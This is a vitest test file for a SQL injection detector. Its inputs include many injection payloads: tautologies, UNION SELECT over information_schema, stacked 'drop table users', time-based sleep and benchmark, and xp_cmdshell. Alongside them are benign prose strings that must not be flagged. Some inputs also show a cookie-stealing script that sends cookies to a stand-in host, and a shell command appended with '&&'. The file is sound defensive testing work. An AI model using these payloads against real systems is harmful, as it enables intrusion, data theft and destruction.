/**
 * @detectSQLi on its own: injections in each context they start from (a quoted string, a number, a parenthesis)
 * are caught, and prose that shares SQL's words and punctuation (`#`, `--`, "select ... from", "and", "order
 * by") passes. Each group names the behaviour it pins down.
 */
import { describe, expect, test } from 'vitest';
import { detectSqli } from './detect-sqli.js';

const caught = (inputs: string[]) => {
  for (const s of inputs) expect(detectSqli(s), s).toBeDefined();
};
const passed = (inputs: string[]) => {
  for (const s of inputs) expect(detectSqli(s)?.fingerprint, s).toBeUndefined();
};

describe('detectSqli', () => {
  test('classic injections from a quoted string or a number', () => {
    caught([
      "' or 1=1--",
      "' OR '1'='1",
      "1' AND 'a'<>'b",
      '1 or 1 like 1',
      "' or username is not null--",
      "admin'--",
      "admin'/*",
      "1' and sleep(5)--",
      'benchmark(1000000,md5(1))',
      "'; drop table users--",
      "x'); drop table users--",
      "' or (select 1)='1",
      '1 and ascii(substring(user(),1,1))>64',
    ]);
  });

  test('a clause that continues the WHERE condition: order by, group by, having, limit', () => {
    caught([
      "1' ORDER BY 3-- -",
      "1' order by 1#",
      "' HAVING 1=1--",
      "' limit 1--",
      '1 group by 1,2,3--',
      '1 order by 10',
      "9') order by 2-- ",
    ]);
    // The same words in prose, with or without a quote before them.
    passed([
      "I'd like to order by phone",
      "It's an order by the manager",
      'Order by price (low to high)',
      'Group by color, then size',
      'Limit 5 per customer',
      'Having 2 cars is enough',
      'limit 10 -- then stop',
    ]);
  });

  test('a tautology that closes parentheses first, however deep', () => {
    caught(['1)) OR ((1=1', "1') or ('1'='1", '5))) or (((2>1', "x')) or (('a' like 'a"]);
    passed(['Choose 1) or 2) below', '1) or (see below)', 'Option (1) or (2)', '(a) or (b = c)']);
  });

  test('a tautology needs a comparison: arithmetic after and/or/&& is how shells and prose read', () => {
    passed(['127.0.0.1 && ls -la /', '2-3 and up', 'ages 2-3 and 4-5', "x' || echo -n 'y"]);
    caught(["' or 2>1--", "' or 'x' regexp 'x"]);
  });

  test('a # comment (MySQL only, and everywhere in prose) is never the only evidence', () => {
    passed([
      "admin' #",
      "admin'#",
      'C# and F# are .NET languages; C++ is not.',
      'c# vs java',
      'C# or F#',
      'see issue #42',
      "The value was 'N/A' # unknown",
      '<a href="#" onmouseover="x">',
    ]);
    // With SQL before it, it ends the injection like `--` does.
    caught(["1'/**/oR/**/1=1#", "admin' or 1=1#", '1 OR benchmark(10000000,MD5(1))#', "1' union select 1#"]);
  });

  test('a word followed by -- is prose; a string or a number followed by a comment is not', () => {
    passed(['Thanks -- see you tomorrow', "I can't log in -- help", "don't, won't, can't -- sure"]);
    caught(['1--', "x'--", '1)--', '1/*']);
  });

  test('a statement verb at the start counts when it reads as SQL, not as a sentence', () => {
    passed([
      'select the best option from the list',
      'Select a plan from the menu',
      'Select 2 items from the list',
      'Update the delivery address from the form',
      'Delete from my cart please',
      'Drop table tennis lessons on Friday',
      // After `FROM table [alias]` SQL has an end, a clause, a join or a separator, not more of the sentence.
      'Select one from the list!',
      'Select one from the list and the menu',
      'Select your size from the chart (S/M/L)',
      'Select a date from the calendar / picker',
      'Select the rows from the table, then delete',
    ]);
    caught([
      'select * from users',
      "select password from users where name='admin'",
      'select @@version from x',
      'select name from users--',
      'delete from users where id=1',
      "update users set name='x' where id=1",
    ]);
  });

  test('union all / union distinct and comments used as whitespace do not hide a union select', () => {
    caught([
      "' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables-- ",
      "' union distinct select 1--",
      '1/**/UNION/**/SELECT/**/password/**/FROM/**/users',
      '1/*!50000union*/ select 1',
      '-1 union/**/select/**/1,2',
    ]);
    passed(["The 'union' of two sets", '/* note */ the build is fine']);
  });

  test('a statement break needs a statement or an end after it', () => {
    passed(["';document.location='https://evil.example/?c='+document.cookie;//", "Your code 'abc'; use it"]);
    caught(["x'; --", "x';", "1'; exec xp_cmdshell 'dir'--"]);
  });
});
